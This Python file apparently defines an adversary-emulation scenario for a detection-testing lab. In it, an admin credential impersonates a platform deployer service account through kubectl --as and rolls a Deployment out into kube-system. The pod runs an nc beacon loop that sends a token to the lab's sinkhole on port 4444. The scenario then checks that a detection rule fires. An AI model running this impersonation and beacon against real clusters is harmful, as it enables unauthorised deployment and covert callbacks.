"""An admin credential impersonates the platform's deployer to roll out into kube-system."""

from __future__ import annotations

import json
import secrets

from lab import Lab, Workload
from scenarios.api import Expectation, Kind, Scenario
from scenarios.kubernetes._accounts import bound_account

DEPLOYER = "system:serviceaccount:platform:deployer"


class ImpersonatedDeployer(Scenario):
    id = "kubernetes.deploy.impersonated-deployer"
    title = "Rollout into kube-system made as the approved deployer through impersonation (kubectl --as)"
    kind = Kind.ADVERSARY
    techniques = ("T1610", "T1036.005")
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.system-namespace-deploy",), within_s=20)
    twin = "kubernetes.deploy.deployer-rollout"
    forges = ("kubernetes/approved_deployers/platform-deployer",)
    tags = ("kubernetes", "unauthorised-deployment")
    parallel_safe = False  # the platform namespace and its deployer account are fixed names
    description = (
        "The platform's deployer exists as the platform sets it up (the platform namespace, a "
        "deployer service account bound to the built-in admin role). A credential allowed to "
        "impersonate (the lab's admin kubeconfig) then creates a Deployment in kube-system with "
        "kubectl --as=system:serviceaccount:platform:deployer: the API server authorises the request "
        "as the deployer, and the audit event names the deployer as impersonatedUser and the admin "
        "as user. Its pod sends a token to the lab internet's sinkhole every two seconds; the "
        "scenario checks the sinkhole heard it."
    )

    def detonate(self, lab: Lab) -> None:
        bound_account(lab, "platform", "deployer", lab.name("platform-deployer"), token=False)
        marker = secrets.token_hex(6)
        beacon = f"while true; do echo {marker} | nc -w 2 -q 1 {lab.sinkhole.address} 4444; sleep 2; done"
        name = lab.name("metrics-relay")
        lab.cleanup(f"delete deployment kube-system/{name}",
                    lambda: lab.kubectl("delete", "deployment", "-n", "kube-system", name, "--ignore-not-found",
                                        "--wait=true"))
        lab.action("roll out into kube-system impersonating the deployer")
        output = lab.kubectl("create", "deployment", name, "-n", "kube-system", f"--image={lab.image}",
                             "--replicas=1", f"--as={DEPLOYER}", "-o", "json", "--", "sh", "-c", beacon).output
        created, _ = json.JSONDecoder().raw_decode(output[output.index("{"):])  # stderr may follow
        lab.track(Workload(id=created["metadata"]["uid"], name=name, kind="deployment", backend="kubernetes"))
        lab.wait_for(lambda: any(marker in r.get("head", "") for r in lab.sinkhole_records()), timeout=45,
                     what="the impersonated rollout's beacon to reach the sinkhole")
